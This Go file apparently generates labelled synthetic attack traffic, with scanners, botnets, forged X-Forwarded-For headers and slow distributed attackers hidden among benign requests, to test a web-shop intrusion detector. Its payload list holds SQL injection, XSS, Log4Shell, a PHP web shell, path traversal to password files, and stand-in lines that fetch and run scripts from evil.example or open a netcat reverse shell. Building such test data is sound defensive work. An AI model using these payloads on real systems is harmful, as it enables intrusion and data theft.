package main

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"time"
)

// payloads is what the attackers send: of the classes that a shop meets.
func attackPayloads() []string {
	return []string{
		"1' or '1'='1' -- ", "1 union select username, password from users", "'; drop table users; --", "1 and sleep(5)", "admin'--",
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(document.cookie)", "<svg onload=alert(1)>",
		"; cat /etc/passwd", "| id", "$(curl http://evil.example/x.sh | sh)", "`wget http://evil.example/x`", "&& nc -e /bin/sh 10.0.0.1 4444",
		"../../../../etc/passwd", "....//....//etc/shadow", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<?php system($_GET['c']); ?>",
		"() { :; }; /bin/bash -c id", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "%0d%0aSet-Cookie: a=b",
	}
}

// attack puts a payload into one of the shop's parameters.
func (p person) attack(r *rand.Rand, at time.Time, payload string) sent {
	var s sent
	switch r.IntN(6) {
	case 0:
		s = p.request(r, at, "GET", "/search?q="+url.QueryEscape(payload))
	case 1:
		s = p.request(r, at, "POST", "/comments").form("author", "x", "text", payload)
	case 2:
		s = p.request(r, at, "POST", fmt.Sprintf("/orders/%d/note", 1000+r.IntN(9000))).form("note", payload)
	case 3:
		s = p.request(r, at, "POST", "/blog/"+pick(r, slugs())+"/comment").form("body", payload)
	case 4:
		s = p.request(r, at, "POST", "/api/articles").json(map[string]any{"title": "x", "body": payload})
	default:
		s = p.request(r, at, "GET", "/")
		s.set("cookie", "prefs="+url.QueryEscape(payload))
	}
	return s
}

// attackers are several behaviours over the days that are learned from and the
// days that are judged.
func attackers(r *rand.Rand, begin time.Time, days int) []sent {
	var out []sent
	send := func(who string, p person, at time.Time, payload string) {
		s := p.attack(r, at, payload)
		s.who = "attack: " + who
		out = append(out, s)
	}
	// browse is cover: harmless requests of the attacker's, labelled benign.
	browse := func(p person, at time.Time, n int) {
		for i := range n {
			out = append(out, p.request(r, at.Add(time.Duration(i)*time.Second), "GET", pick(r, []string{"/", "/about", "/cart", "/tables/oak"})))
		}
	}
	agent := "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"
	at := func(a, b, c, d byte) person {
		return person{addr: netip.AddrFrom4([4]byte{a, b, c, d}), agent: agent, cookie: "sort=price"}
	}

	scanner := at(203, 0, 113, 9) // ten thousand in one night is this one's habit; a part of it is enough here
	for i := range 1500 {
		send("one address, thousands of requests", scanner, begin.Add(26*time.Hour+time.Duration(i)*4*time.Second), pick(r, attackPayloads()))
	}
	for i := range 50 { // fifty addresses in three networks, within an hour, each with cover
		bot := at(192, 0, byte(2+i%3), byte(10+i))
		when := begin.Add(30*time.Hour + time.Duration(i)*time.Minute)
		browse(bot, when, 8)
		for range 3 {
			send("botnet of 50 addresses in 3 networks", bot, when.Add(30*time.Second), pick(r, attackPayloads()))
		}
	}
	forger := at(203, 0, 113, 77) // a new X-Forwarded-For with each request; no hop is trusted
	for i := range 200 {
		when := begin.Add(time.Duration(i) * time.Duration(days) * 24 * time.Hour / 200)
		browse(forger, when, 4)
		s := forger.attack(r, when, pick(r, attackPayloads()))
		s.who = "attack: forged X-Forwarded-For"
		s.set("x-forwarded-for", fmt.Sprintf("10.%d.%d.%d", r.IntN(250), r.IntN(250), r.IntN(250)))
		out = append(out, s)
	}
	for n := range 4 { // patient ones, each from its own network, two a day, among honest use of the shop
		slow := at(198, 51, byte(100+n), 7)
		for day := range days {
			for k := range 2 {
				when := begin.AddDate(0, 0, day).Add(time.Duration(8+6*k+n)*time.Hour + time.Duration(r.IntN(3000))*time.Second)
				for range 6 {
					out = append(out, slow.visit(r, when))
				}
				send("slow, for days, among honest use", slow, when, pick(r, attackPayloads()))
			}
		}
	}
	return append(out, rented(r, begin, days, at)...)
}

// rented is thirty addresses in thirty networks that send the same attack, a few
// times over days, with cover: what counting networks cannot see through.
func rented(r *rand.Rand, begin time.Time, days int, at func(a, b, c, d byte) person) []sent {
	var out []sent
	for n := range 30 {
		p := at(100, 64, byte(n), 5)
		for k := range 3 {
			when := begin.Add(time.Duration(r.IntN(days*24)) * time.Hour)
			for range 5 {
				out = append(out, p.request(r, when, "GET", "/about"))
			}
			s := p.request(r, when, "POST", "/comments").form("author", "x", "text", attackPayloads()[k])
			s.who = "attack: the same from 30 networks over days"
			out = append(out, s)
		}
	}
	return out
}
